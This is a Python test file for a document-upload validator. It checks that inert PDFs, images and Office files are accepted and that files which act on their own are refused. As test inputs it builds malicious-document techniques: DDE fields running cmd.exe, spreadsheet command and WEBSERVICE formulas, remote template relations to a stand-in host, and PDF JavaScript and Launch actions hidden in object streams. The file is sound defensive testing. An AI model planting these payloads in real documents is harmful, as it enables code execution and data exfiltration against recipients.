"""A file in the archive lies still when it is opened, and is what it claims to be."""

import io
import struct
import zlib

import pytest

from regional_app.work.documents.accepted import kept_format
from regional_app.work.documents.refused import NotAccepted
from tests.documents.files import PNG, W, docx, packed, pdf, xlsx

RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
JPEG = (
    b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
    b"\xff\xc0\x00\x0b\x08\x00\x01\x00\x01\x01\x01\x11\x00\xff\xda\x00\x08\x01\x01\x00\x00\x3f\x00\x37\xff\xd9"
)


def refused(content):
    with pytest.raises(NotAccepted) as no:
        kept_format(content)
    return str(no.value.message)


def relation(kind, target, mode=' TargetMode="External"'):
    return f'<Relationships><Relationship Id="a" Type="{RELATIONS}/{kind}" Target="{target}"{mode}/></Relationships>'


def field(*said):
    runs = "".join(f"<w:r><w:instrText>{one}</w:instrText></w:r>" for one in said)
    return docx({"word/header1.xml": f'<w:hdr xmlns:w="{W}"><w:p>{runs}</w:p></w:hdr>'})


def sheet(formula):
    return xlsx({"xl/worksheets/sheet1.xml": f"<worksheet><c><f>{formula}</f></c></worksheet>"})


def with_object(said):
    """A PDF with one more object, whoever points to it."""
    before, table = pdf("Hej").split(b"xref\n0", 1)
    more = b"90 0 obj\n" + said + b"\nendobj\n"
    start = len(before)
    return before + more + b"xref\n0" + table.replace(b"%d\n%%%%EOF" % start, b"%d\n%%%%EOF" % (start + len(more)))


def hidden(said):
    """The same, packed among the objects."""
    stream = zlib.compress(b"90 0 " + said)
    return with_object(
        b"<< /Type /ObjStm /N 1 /First 5 /Filter /FlateDecode /Length %d >>\nstream\n" % len(stream)
        + stream
        + b"\nendstream"
    )


@pytest.mark.parametrize(
    "content", [pdf("Hej"), PNG, JPEG, docx(), xlsx()], ids=["pdf", "png", "jpeg", "docx", "xlsx"]
)
def test_what_lies_still_is_kept(content):
    assert kept_format(content)


@pytest.mark.parametrize(
    "content",
    [
        docx({"word/_rels/document.xml.rels": relation("hyperlink", "https://bra.se")}),
        docx({"word/_rels/document.xml.rels": relation("image", "media/a.png", "")}),
        with_object(b"<< /Type /Annot /Subtype /Link /A << /S /URI /URI (https://bra.se/Launch) >> >>"),
        with_object(b"<< /OpenAction [4 0 R /Fit] >>"),
        with_object(b"<< /OpenAction << /S /GoTo /D [4 0 R /Fit] >> >>"),
    ],
    ids=["link", "own picture", "link in a pdf", "opens at a page", "goes to a page"],
)
def test_what_waits_for_a_click_is_kept(content):
    assert kept_format(content)


@pytest.mark.parametrize(
    "kind", ["attachedTemplate", "oleObject", "image", "frame", "subDocument", "mailMergeSource"]
)
@pytest.mark.parametrize("target", ["https://ond.se/a", "file:///c:/mall.dotm", "\\\\server\\mall.dotm"])
def test_a_word_file_that_fetches_something_is_refused(kind, target):
    for mode in (' TargetMode="External"', ""):
        assert "hämtar något utifrån" in refused(docx({"word/_rels/settings.xml.rels": relation(kind, target, mode)}))


@pytest.mark.parametrize(
    "content",
    [
        xlsx({"xl/externalLinks/externalLink1.xml": "<externalLink/>"}),
        xlsx({"xl/connections.xml": "<connections/>"}),
        xlsx({"xl/queryTables/queryTable1.xml": "<queryTable/>"}),
        sheet("cmd|'/c calc'!A0"),
        sheet("WEBSERVICE(&quot;https://ond.se&quot;)"),
        field("DDEAUTO c:\\cmd.exe"),
        field(" DDE", "AUTO cmd"),
        field('INCLUDEPICTURE "https://ond.se/a.png"'),
        docx({"word/a.xml": '<w:p xmlns:w="w"><w:fldSimple w:instr="DDE cmd"/></w:p>'}),
    ],
)
def test_a_file_that_asks_another_program_or_address_is_refused(content):
    assert "hämtar något utifrån" in refused(content)


@pytest.mark.parametrize(
    "said",
    [
        b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>",
        b"<< /S /Java#53cript /JS 91 0 R >>",
        b"<< /S% hej\n/Launch /F (cmd.exe) >>",
        b"<< /OpenAction << /S /URI /URI (https://ond.se) >> >>",
        b"<< /OpenAction 91 0 R >>\nendobj\n91 0 obj\n<< /S /URI /URI (https://ond.se) >>",
        b"<< /AA << /O 91 0 R >> >>",
        b"<< /Names << /EmbeddedFiles 91 0 R >> >>",
        b"<< /Type /Filespec /EF << /F 91 0 R >> >>",
        b"<< /Type /Annot /Subtype /RichMedia >>",
        b"<< /S /SubmitForm /F (https://ond.se) >>",
        b"<< /S /GoToR /F (annan.pdf) >>",
        b"<< /XFA [91 0 R] >>",
    ],
)
def test_a_pdf_that_does_something_by_itself_is_refused_also_where_it_is_packed(said):
    assert "av sig själv" in refused(with_object(said))
    assert "av sig själv" in refused(hidden(said))


def test_a_pdf_with_a_password_says_so():
    assert "lösenord" in refused(pdf("Hej").replace(b"/Root 1 0 R", b"/Root 1 0 R /Encrypt 90 0 R"))


def test_objects_packed_as_nobody_packs_them_are_not_guessed_at():
    assert "ingen hel PDF" in refused(with_object(b"<< /Type /ObjStm /Filter /LZWDecode >>\nstream\nx\nendstream"))


@pytest.mark.parametrize(
    ("content", "said"),
    [
        (PNG[:8], "ingen hel bild"),
        (PNG[:-4], "ingen hel bild"),
        (PNG[:40] + b"x" + PNG[41:], "ingen hel bild"),
        (PNG + b"<script>", "ingen hel bild"),
        (PNG.replace(struct.pack(">II", 1, 1), struct.pack(">II", 90_000, 90_000)), "ingen hel bild"),
        (JPEG[:20], "ingen hel bild"),
        (JPEG[:20] + JPEG[-2:], "ingen hel bild"),
        (b"%PDF-1.4\nrubbish", "ingen hel PDF"),
        (docx({"word/document.xml": "<html/>"}), "går inte att läsa"),
        (docx({"word/a.xml": "<!DOCTYPE a []><a/>"}), "går inte att läsa"),
    ],
)
def test_a_file_that_only_begins_as_one_is_refused(content, said):
    assert said in refused(content)


def test_the_page_says_why(as_coordinator, norrby):
    bad = docx({"word/_rels/settings.xml.rels": relation("attachedTemplate", "https://ond.se/a.dotm")})
    page = as_coordinator.post(
        "/norrby/dokument",
        {
            "title": "Plan",
            "kind": "plan",
            "direction": "drawn_up",
            "is_shared": "",
            "file": (io.BytesIO(bad), "a.docx"),
        },
        expect=422,
        audited=False,
    )

    assert "hämtar något utifrån" in page.words


def test_a_zip_in_a_picture_is_two_files():
    assert "två slags filer" in refused(PNG + packed({"a": "b"}))
